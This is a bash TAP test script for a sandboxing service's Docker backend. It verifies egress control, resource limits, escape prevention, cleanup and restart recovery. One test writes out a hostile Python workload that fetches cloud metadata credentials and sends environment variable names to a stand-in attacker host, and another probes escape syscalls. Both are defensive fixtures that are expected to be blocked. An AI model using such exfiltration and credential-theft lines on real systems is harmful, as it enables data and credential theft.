#!/bin/bash
# tests/lab/docker.sh - TAP: the docker backend end to end. A whole
# appliance with its own private dockerd (`enclavectl lab up --docker`:
# Debian's docker.io with its own data root, exec root, config, pidfile and
# socket under a short temporary directory, no bridge, no iptables, vfs
# storage, and no registry: the base image is imported from a tar that
# sessiond builds) runs workloads in containers whose only interface is the
# session's veth end, moved in before the workload starts: results, allowed
# egress, the seed's hostile workload and its exact audit sequence,
# timeout, OOM, output cap, escapes, DELETE, nothing left behind, a
# sessiond killed mid-session and restarted (its sweep removes the
# container), the median start latency, and `lab down` leaving nothing of
# dockerd behind.
if [ -z "${BASH_VERSION:-}" ]; then exec bash "$0" "$@"; fi
set -u

here=$(cd "$(dirname "$0")" && pwd)
# shellcheck source=lib.sh
. "$here/lib.sh"
LAB_BACKEND=docker

top_build=${abs_top_builddir:-$(cd "$here/../.." && pwd)}
top_src=${abs_top_srcdir:-$(cd "$here/../.." && pwd)}
CTL=$top_build/ctl/enclavectl
SESSIOND=${ENCLAVE_SESSIOND:-$top_build/sessiond/enclave-sessiond}
export ENCLAVE_BUILDDIR=$top_build
export ENCLAVE_LAB_SCRIPT=$top_src/ctl/enclave-lab
export ENCLAVE_SESSIOND=$SESSIOND
# The lab script's dockerd (its default: /usr/sbin/dockerd).
if [ -n "${DOCKERD:-}" ]; then export ENCLAVE_DOCKERD=$DOCKERD; fi

lab_preflight
for f in "$CTL" "$SESSIOND"; do
	if [ ! -x "$f" ]; then
		echo "1..1"
		echo "not ok 1 - $f built (make check builds it)"
		exit 1
	fi
done

NAME=d$(od -An -N3 -tx1 /dev/urandom | tr -d ' \n')
T=$(mktemp -d /tmp/enclave-docker-test.XXXXXX)
chmod 0755 "$T"
DOWN=0
cleanup() {
	[ "$DOWN" = 1 ] || "$CTL" lab down "$NAME" >/dev/null 2>&1
	rm -rf -- "$T"
}
trap cleanup EXIT
trap 'exit 130' INT TERM HUP

# under DIR: DIR and the mount points below it.
under() { awk -v d="$1" '$5 == d || index($5, d "/") == 1 { print $5 }' /proc/self/mountinfo; }

# --- the appliance and its dockerd -------------------------------------------
# What dockerd must leave alone, taken before `lab up`: neither the lab
# nor its dockerd may change any of it.
links_before=$(ip -o link show | awk -F': ' '{ print $2 }' | sort)
ipt_before=$( (iptables-save; ip6tables-save) 2>/dev/null | grep -v '^#')
nft_before=$(nft list ruleset 2>/dev/null)
key_before=$(stat -c %i.%Y /etc/docker/key.json 2>/dev/null)
run_docker_before=0
[ -e /run/docker ] && run_docker_before=1

if ! "$CTL" lab up --name "$NAME" --docker >"$T/up.out" 2>"$T/up.err"; then
	echo "1..1"
	echo "not ok 1 - enclavectl lab up --docker"
	sed 's/^/# /' "$T/up.err" | tail -20
	exit 1
fi
val() { sed -n "s/^$1=//p" "$T/up.out"; }
S=$(val ENCLAVE_SOCKET)
D=$(val ENCLAVE_LAB_DIR)
SOCK=$(val ENCLAVE_DOCKER_SOCKET)
LNS=${NAME}lab
if [ -z "$SOCK" ]; then
	# The lab came up without dockerd and said why on stderr.
	why=$(sed -n 's/^enclave-lab: --docker: //p' "$T/up.err" |
		sed 's/;* *continuing without it.*//' | sed '/^$/d' | paste -sd' ')
	# and when it failed, the last lines of its log (indented)
	log=$(sed -n 's/^    //p' "$T/up.err" | tail -3 | paste -sd' ')
	tap_skip_all "no private dockerd in the lab: ${why:-lab up printed no ENCLAVE_DOCKER_SOCKET line}${log:+: $log}"
	exit 0
fi
DD=${SOCK%/*}
DPID=$(cat "$D/dockerd.pid" 2>/dev/null)

tap_plan 41
is "dockerd runs, as the pid in its pidfile, and answers /_ping" "$DPID OK" \
	"$(cat "$DD/docker.pid" 2>/dev/null) $(curl -s --max-time 5 --unix-socket "$SOCK" http://docker/_ping)"
is "the lab and its dockerd made no interface in the root netns" "$links_before" \
	"$(ip -o link show | awk -F': ' '{ print $2 }' | sort)"
is "dockerd wrote no iptables or nft rule" "$ipt_before|$nft_before" \
	"$( (iptables-save; ip6tables-save) 2>/dev/null | grep -v '^#')|$(nft list ruleset 2>/dev/null)"

is "dockerd keeps its identity key in its own directory, not /etc/docker" "${key_before}|1" \
	"$(stat -c %i.%Y /etc/docker/key.json 2>/dev/null)|$(test -s "$DD/key.json" && echo 1)"

# dapi METHOD PATH: the engine's API, answer on stdout.
dapi() { curl -s --max-time 10 --unix-socket "$SOCK" -X "$1" "http://docker/v1.41$2"; }

# Containers of this appliance, by its label.
ours() {
	dapi GET "/containers/json?all=1&filters=%7B%22label%22%3A%5B%22enclave.prefix%3D$NAME%22%5D%7D" |
		python3 -c 'import json,sys; print(" ".join(c["Names"][0] for c in json.load(sys.stdin)))'
}
leftovers() {
	ours
	ls "$D/state/run" 2>/dev/null
	find /sys/fs/cgroup -maxdepth 3 -type d -name "enclave-${NAME}-*" 2>/dev/null
	ls /run/netns | grep -E "^${NAME}s[0-9]+$"
}

api GET /v1/backends >/dev/null
is "GET /v1/backends: docker is available, a container on the host kernel" "True container (host kernel)" \
	"$(js '[b["available"] for b in d["backends"] if b["name"]=="docker"][0]') $(js '[b["isolation"] for b in d["backends"] if b["name"]=="docker"][0].split(";")[0]')"

# --- a python session with a result --------------------------------------
run python 'import enclave
print("hello from docker")
enclave.result({"n": 42, "s": "ok"})'
is "python in docker: 201, succeeded, exit 0" "201 succeeded 0" \
	"$(cat "$T/status") $(js 'd["phase"]') $(js 'd["exit_code"]')"
is "the result is the workload's JSON" '{"n": 42, "s": "ok"}' "$(js 'json.dumps(d["result"])')"
is "stdout is captured" "hello from docker" "$(js 'd["stdout"].strip()')"
tap_check "usage: cpu and peak memory from the run's cgroup" \
	test "$(js 'int(d["usage"]["cpu_ms"] > 0 and d["usage"]["mem_peak_bytes"] > 0)')" = 1
is "its audit: created, started, result, exited, metered" \
	"session_created,sandbox_started,result_collected,workload_exited,usage_metered" \
	"$(types "$(js 'd["id"]' "$T/last")")"
api GET "/v1/sessions/$(js 'd["id"]' "$T/last")/audit" >/dev/null
is "sandbox_started names the docker backend and its isolation" "docker container (host kernel)" \
	"$(js '[e["data"]["backend"] + " " + e["data"]["isolation"].split(";")[0] for e in d["events"] if e["type"]=="sandbox_started"][0]')"

if command -v node >/dev/null 2>&1; then
	run node 'const e = require("enclave"); e.result({lang: "node"});'
	is "a node session returns its result" "succeeded node" \
		"$(js 'd["phase"]' "$T/last") $(js 'd["result"]["lang"]' "$T/last")"
else
	tap_skip "a node session returns its result" "node is not installed"
fi

ENV_CODE='import os; print(" ".join(sorted(os.environ)))'
run python "$ENV_CODE"
denv=$(js 'd["stdout"].strip()' "$T/last")
body python "$ENV_CODE" '' '{"backend": "namespace"}'
api POST /v1/sessions "$T/req" >/dev/null
is "the workload's environment is the namespace sandbox's" "$(js 'd["stdout"].strip()')" "$denv"

# --- egress ---------------------------------------------------------------
run sh 'curl -s -o /dev/null -w "%{http_code} " http://allowed.test/; curl -s -k -o /dev/null -w "%{http_code}" https://allowed.test/'
is "allowed egress from the container: HTTP and HTTPS to allowed.test" "200 200" "$(js 'd["stdout"]' "$T/last")"
api GET "/v1/sessions/$(js 'd["id"]' "$T/last")/audit" >/dev/null
is "the lookup and both connections are egress_allowed events" "allowed.test:dns allowed.test:http allowed.test:tls" \
	"$(js '" ".join(sorted(set("%s:%s" % (e["data"]["host"], e["data"]["proto"]) for e in d["events"] if e["type"]=="egress_allowed")))')"

run sh 'ip -o addr show 2>/dev/null | awk "{print \$2, \$4}"; cat /sys/class/net/eth0/address >/dev/null && ls /sys/class/net | tr "\n" " "'
is "the container's interfaces: lo and the session's eth0" "eth0 lo " "$(js 'd["stdout"].splitlines()[-1]' "$T/last")"

cat >"$T/hostile.py" <<'EOF'
import enclave
import os, json, urllib.request

try:
    urllib.request.urlopen("http://169.254.169.254/latest/meta-data/iam/security-credentials/")
except Exception as e:
    print("metadata fetch blocked:", e)

try:
    urllib.request.urlopen("http://exfil.attacker.example/exfil?dump=" + ",".join(os.environ.keys()))
except Exception as e:
    print("exfil blocked:", e)

enclave.result({"egressAttempted": True})
EOF
run python "$(cat "$T/hostile.py")"
H_ID=$(js 'd["id"]' "$T/last")
is "hostile workload: succeeded, with its result" "succeeded True" \
	"$(js 'd["phase"]' "$T/last") $(js 'd["result"]["egressAttempted"]' "$T/last")"
is "hostile workload: the exact audit type sequence" \
	"session_created,sandbox_started,egress_denied,egress_denied,result_collected,workload_exited,usage_metered" \
	"$(types "$H_ID")"
is "denied: the metadata IP (blocked_range) and the exfil host (DNS)" \
	"169.254.169.254:blocked_range:http exfil.attacker.example:not_allowlisted:dns" \
	"$(js '" ".join("%s:%s:%s" % (e["data"]["host"], e["data"]["reason"], e["data"]["proto"]) for e in d["events"] if e["type"]=="egress_denied")')"
is "no 'network unreachable': every attempt met the enforcement point" 0 \
	"$(js 'int("unreachable" in d["stdout"].lower())' "$T/last")"

# --- limits ---------------------------------------------------------------
start=$(date +%s%N)
run sh 'sleep 30' '{"timeout_ms": 700}'
el=$((($(date +%s%N) - start) / 1000000))
is "timeout: timed_out, killed by SIGKILL" "timed_out 9" \
	"$(js 'd["phase"]' "$T/last") $(js 'd["signal"]' "$T/last")"
tap_check "timeout: answered within 5 s ($el ms)" test "$el" -lt 5000

run python 'x = bytearray(512 * 1024 * 1024)
print("allocated")' '{"memory_mb": 64}'
is "OOM: failed, killed, the error names the memory limit, nothing printed" "failed 9 1 ||" \
	"$(js 'd["phase"]' "$T/last") $(js 'd["signal"]' "$T/last") $(js 'int("memory" in (d["error"] or ""))' "$T/last") |$(js 'd["stdout"]' "$T/last")|$(js 'd["stderr"]' "$T/last")"

run sh 'head -c 100000 /dev/zero | tr "\0" x; echo >&2 err' '{"output_bytes": 4096}'
is "output cap: stdout kept to the cap, flagged truncated; stderr whole" "4096 True False err" \
	"$(js 'len(d["stdout"])' "$T/last") $(js 'd["stdout_truncated"]' "$T/last") $(js 'd["stderr_truncated"]' "$T/last") $(js 'd["stderr"].strip()' "$T/last")"

run sh 'exit 3'
is "an exit status comes back as it was" "failed 3 None" \
	"$(js 'd["phase"]' "$T/last") $(js 'd["exit_code"]' "$T/last") $(js 'd["signal"]' "$T/last")"

# --- escapes that must fail ------------------------------------------------
cat >"$T/escape.py" <<EOF
import ctypes, os, socket, enclave
libc = ctypes.CDLL(None, use_errno=True)
r = {}
r["unshare"] = libc.unshare(0x10000000 | 0x00020000) == 0
r["mount"] = libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0
r["ptrace"] = libc.ptrace(16, 1, None, None) == 0
for name, fam, typ in (("raw", socket.AF_INET, socket.SOCK_RAW), ("netlink", socket.AF_NETLINK, socket.SOCK_RAW)):
    try:
        socket.socket(fam, typ, 0 if fam == socket.AF_NETLINK else socket.IPPROTO_ICMP); r[name] = True
    except OSError:
        r[name] = False
r["engine_socket"] = os.path.exists("$SOCK") or os.path.exists("/run/docker.sock")
r["sessiond_socket"] = os.path.exists("$S")
r["root_writable"] = os.access("/", os.W_OK) or os.access("/etc", os.W_OK)
r["run_dir_writable"] = os.access("/run/enclave", os.W_OK)
st = open("/proc/self/status").read()
r["capeff"] = st.split("CapEff:")[1].split()[0]
r["nnp"] = st.split("NoNewPrivs:")[1].split()[0]
r["seccomp"] = st.split("Seccomp:")[1].split()[0]
r["uid"] = os.getuid()
enclave.result(r)
EOF
run python "$(cat "$T/escape.py")"
is "escapes: no unshare, mount, ptrace, raw or netlink socket; no engine or sessiond socket; read-only root" \
	'{"capeff": "0000000000000000", "engine_socket": false, "mount": false, "netlink": false, "nnp": "1", "ptrace": false, "raw": false, "root_writable": false, "run_dir_writable": false, "seccomp": "2", "sessiond_socket": false, "uid": 65534, "unshare": false}' \
	"$(js 'json.dumps(d["result"], sort_keys=True)' "$T/last")"

is "nothing left behind: no container, run dir, cgroup or netns" "" "$(leftovers)"

# --- DELETE -----------------------------------------------------------------
body sh 'sleep 60' '' '{"wait": false}'
api POST /v1/sessions "$T/req" >/dev/null
DEL_ID=$(js 'd["id"]')
is "a running session has its container" "/$NAME-$DEL_ID" "$(ours)"
is "DELETE of a running session: 204" 204 "$(api DELETE "/v1/sessions/$DEL_ID")"
is "... then its container, run dir and cgroups are gone" "" "$(leftovers)"

# --- start latency -----------------------------------------------------------
body sh 'true' '' '{"wait": false}'
lat=$(for _ in 1 2 3 4 5 6 7; do
	curl -s -o /dev/null -w '%{time_total}\n' --max-time 30 --unix-socket "$S" \
		-X POST --data-binary "@$T/req" http://sessiond/v1/sessions
	sleep 0.3
done | sort -n | awk '{ a[NR] = $1 * 1000 } END { printf "%d", a[int((NR + 1) / 2)] }')
tap_diag "docker backend: median start latency ${lat} ms (POST to sandbox_started, 7 runs)"
tap_check "median start latency under 5 s (${lat} ms)" test "$lat" -lt 5000
for _ in $(seq 50); do [ -z "$(ours)" ] && break; sleep 0.1; done

# --- sessiond killed mid-session, restarted ------------------------------
body sh 'sleep 60' '' '{"wait": false}'
api POST /v1/sessions "$T/req" >/dev/null
R_ID=$(js 'd["id"]')
SPID=$(cat "$D/sessiond.pid")
kill -KILL "$SPID"
for _ in $(seq 50); do kill -0 "$SPID" 2>/dev/null || break; sleep 0.1; done
is "killed -9: its container outlives it" "/$NAME-$R_ID" "$(ours)"
setsid nsenter --net="/run/netns/$LNS" "$SESSIOND" -c "$D/sessiond.conf" \
	>>"$D/sessiond.log" 2>&1 </dev/null &
echo $! >"$D/sessiond.pid"
for _ in $(seq 100); do [ "$(api GET /v1/health)" = 200 ] && break; sleep 0.1; done
api GET "/v1/sessions/$R_ID" >/dev/null
is "restart: the running session ended in error, with the reason" "error 1" \
	"$(js 'd["phase"]') $(js 'int("restarted" in d["error"])')"
is "restart: the sweep removed the container, run dir, cgroups and netns" "" "$(leftovers)"
is "restart: sessiond says what it swept" 1 \
	"$(grep -c "docker: removed container $NAME-$R_ID" "$D/sessiond.log")"
run python 'print("after restart")'
is "restart: docker sessions run again" "succeeded after restart" \
	"$(js 'd["phase"]' "$T/last") $(js 'd["stdout"].strip()' "$T/last")"

# --- no engine: unavailable with the reason ----------------------------------
# The lab's dockerd stops under sessiond's feet (by its pid, checked to be
# dockerd still); `lab down` then finds it gone and cleans up after it.
if [ "$(readlink "/proc/$DPID/exe" 2>/dev/null)" = "$(readlink -f "${ENCLAVE_DOCKERD:-/usr/sbin/dockerd}")" ]; then
	kill -TERM "$DPID"
	_lab_wait_dead 600 "$DPID" || tap_diag "dockerd (pid $DPID) still runs after 30 s"
fi
sleep 3.2	# the probe's cache
api GET /v1/backends >/dev/null
is "dockerd gone: docker unavailable, the reason names the socket" "False 1" \
	"$(js '[b["available"] for b in d["backends"] if b["name"]=="docker"][0]') $(js '[int(("no Docker engine at '"$SOCK"'") in b["reason"]) for b in d["backends"] if b["name"]=="docker"][0]')"
run python 'print(1)'
is "... and a docker session is refused: 503 backend_unavailable, with the reason" "503 backend_unavailable 1" \
	"$(cat "$T/status") $(js 'd["error"]["code"]' "$T/last") $(js 'int("no Docker engine at" in d["error"]["message"])' "$T/last")"
is "no sanitizer report in sessiond's log" "" \
	"$(grep -E 'AddressSanitizer|LeakSanitizer|runtime error:' "$D/sessiond.log" | head -5)"

# --- lab down: nothing of dockerd left ---------------------------------------
"$CTL" lab down "$NAME" >"$T/down.out" 2>&1
down_st=$?
DOWN=1
is "lab down: exit 0; dockerd's directory gone, nothing mounted in it, no process names it" \
	"0 1 |" "$down_st $(test -e "$DD"; echo $?) $(under "$DD")|$(pgrep -f -- "$DD/" | paste -sd' ')"
if pgrep -x dockerd >/dev/null; then
	tap_skip "lab down: /run/docker as it was before" "another dockerd runs"
else
	is "lab down: /run/docker as it was before" "$run_docker_before" \
		"$(test -e /run/docker && echo 1 || echo 0)"
fi

tap_done
